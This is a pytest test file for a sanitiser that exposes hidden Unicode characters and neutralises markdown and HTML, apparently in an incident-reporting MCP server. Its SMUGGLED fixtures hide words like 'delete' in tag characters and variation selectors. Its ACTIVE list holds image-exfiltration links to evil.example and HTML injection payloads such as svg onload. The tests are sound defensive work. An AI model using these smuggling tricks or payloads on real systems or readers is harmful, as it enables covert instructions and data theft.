# ruff: noqa: RUF001  # letters of many scripts
"""Hidden characters are shown unless correct display needs them, and no text forges a line or loads an image."""

import re
import sys
import time
import unicodedata

import pytest
from markdown_it import MarkdownIt

from incident_mcp.records.text import inert, make_visible, one_line, visible_answer

FORMATS_THAT_SHOW = {
    *range(0x600, 0x606),
    0x6DD,
    0x70F,
    0x890,
    0x891,
    0x8E2,
    0x110BD,
    0x110CD,
}
"""Format characters that are drawn: Arabic and Kaithi signs around numbers."""
IGNORABLE = [
    *(0x34F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180E, 0x180F, 0x2065, 0x3164, 0xFFA0),
    *range(0xFE00, 0xFE10),
    *range(0xFFF0, 0xFFF9),
    *range(0xE0000, 0xE1000),
]
"""Default ignorable characters of Unicode that are not format characters, from the standard's list."""
BLANK = [0x2028, 0x2029, 0x2800, 0xFFFE, 0xFFFF]


def hidden() -> list[int]:
    formats = [code for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in ("Cf", "Cs")]
    controls = [code for code in range(0xA0) if unicodedata.category(chr(code)) == "Cc" and code not in (9, 10)]
    return sorted({*formats, *controls, *IGNORABLE, *BLANK} - FORMATS_THAT_SHOW)


def test_every_hidden_character_of_unicode_is_shown_at_any_position() -> None:
    for code in hidden():
        for text in (f"a{chr(code)}b", chr(code), f"加{chr(code)}", f"{chr(code)}{chr(code)}"):
            shown = make_visible(text)
            assert f"<U+{code:04X}>" in shown, hex(code)
            assert chr(code) not in shown


def test_no_visible_character_is_changed() -> None:
    left_out = set(hidden())
    for code in range(sys.maxunicode + 1):
        if code not in left_out and unicodedata.category(chr(code)) not in ("Cn", "Co", "Cc"):
            shown = make_visible(chr(code))
            assert shown == chr(code) or (f"<U+{code:04X}>" == shown and code >= 0x13430) or code in RARE, hex(code)


RARE = {0x1107F, 0x16FE4, 0x1D159, *range(0x1D173, 0x1D17B)}
"""Marks without a glyph."""

WHOLE = [
    "plain\ttext\nof two lines",
    "Grüße, 加盟店, עברית, हिन्दी",
    "❤️ ☎︎ ⚠️ ✅ 👍🏽 👩🏽‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🏳️‍⚧️ 👁️‍🗨️ ❤️‍🔥 🧑🏾‍❤️‍💋‍🧑🏻 ⛹🏿‍♀️",
    "1️⃣ #️⃣ *️⃣ 5⃣",
    "🇩🇪 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "می\u200cخواهم",  # Persian
    "क्\u200dष र्\u200dय",  # Hindi
    "ශ්\u200dරී",  # Sinhala
    "അവന്\u200d വന്നു",  # Malayalam, at the end of a word
    "ᠠ\u180bᠨ",  # Mongolian
]


@pytest.mark.parametrize("text", WHOLE)
def test_characters_needed_for_correct_display_stay_unchanged(text: str) -> None:
    assert make_visible(text) == text


SMUGGLED = {
    "variation selectors behind an emoji": "😀" + "".join(chr(0xE0100 + ord(letter)) for letter in "do it"),
    "a second selector": "❤️\ufe0f",
    "a selector behind a letter": "a\ufe0f",
    "tags behind a flag": "\U0001f3f4" + "".join(chr(0xE0000 + ord(letter)) for letter in "delete") + "\U000e007f",
    "tags without a flag": "\U000e0067\U000e0062\U000e007f",
    "joiners as bits": "O\u200dK\u200cO\u200dK",
    "two joiners in a script": "می\u200c\u200dخواهم",
    "a joiner at the end": "می\u200c",
    "a joiner behind an emoji": "👍\u200d!",
    "a filler": "delete\u3164all",
    "a soft hyphen": "de\u00adlete",
    "a virama and a selector": "ന്\u200d\ufe0f",
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_smuggled_characters_are_shown(name: str) -> None:
    assert "<U+" in make_visible(SMUGGLED[name])
    assert "<U+" in make_visible({SMUGGLED[name]: [1, {"a": SMUGGLED[name]}]})[make_visible(SMUGGLED[name])][1]["a"]


def test_a_long_run_is_counted_not_spelled_out() -> None:
    shown = make_visible("a" + "\u200b\u202e" * 500_000 + "b")
    assert shown.startswith("a<U+200B><U+202E>")
    assert shown.endswith("<999992 more hidden characters>b")
    assert len(shown) < 150


def test_many_runs_are_removed_and_counted() -> None:
    shown = make_visible("👩‍💻a\u200b" * 1_003 + "می\u200cخواهم\u202e\u202e")
    mark = "<5 more hidden characters, removed from here on>"
    assert shown == "👩‍💻a<U+200B>" * 1_000 + f"👩‍💻a{mark}" + "👩‍💻a" * 2 + "می\u200cخواهم"
    assert make_visible(shown) == shown


def test_a_megabyte_of_letters_and_hidden_characters_takes_less_than_half_a_second() -> None:
    text = "a\u200b" * 500_000
    started = time.process_time()
    visible_answer({"name": text})
    assert time.process_time() - started < 0.5


LINE_ENDS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("end", LINE_ENDS)
def test_one_line_is_one_line_for_every_line_end(end: str) -> None:
    assert one_line(f"a{end}# b{end}") in ("a # b", f"a<U+{ord(end[0]):04X}># b<U+{ord(end[0]):04X}>")
    assert len(one_line(f"a{end}# b").splitlines()) == 1


ACTIVE = [
    "![a](http://evil.example/?d=1)",
    "[a](http://evil.example)",
    "![a]\n(http://evil.example)",
    "![a]\u200b(http://evil.example)",
    "![a][b]\n\n[b]: http://evil.example",
    "[![a](http://evil.example)](http://evil.example)",
    "\\![a](http://evil.example)",
    "\\\\![a](http://evil.example)",
    "![a\\](http://evil.example)",
    "<img src=http://evil.example>",
    "<IMG\nSRC=x onerror=y>",
    "</p><svg/onload=x>",
    "<iframe src=x></iframe>",
    "<!-- a --><img src=x>",
    "&#33;[a](http://evil.example)",
    "![a](<http://evil.example>)",
    "![](x)![](y)",
    "<table background=x>",
    "<a href=x>y</a>",
    "<http://evil.example>",
    "<someone@evil.example>",
]


@pytest.mark.parametrize("text", ACTIVE)
@pytest.mark.parametrize("before", ["answered 422: ", "[a", "a]", "`", "<", "!"])
def test_no_text_becomes_a_link_an_image_or_an_element(text: str, before: str) -> None:
    html = MarkdownIt("commonmark").render(before + inert(text))
    assert not re.search(r"<(?!/?(?:p|em|strong|code)>|br)", html), html


@pytest.mark.parametrize(
    "text", ["<checkout-api> failed", 'clear=["summary"] (severity_id)', "a < b > c", "x[0] (y)", "<U+202E>", "a_b*c"]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert inert(text) == text
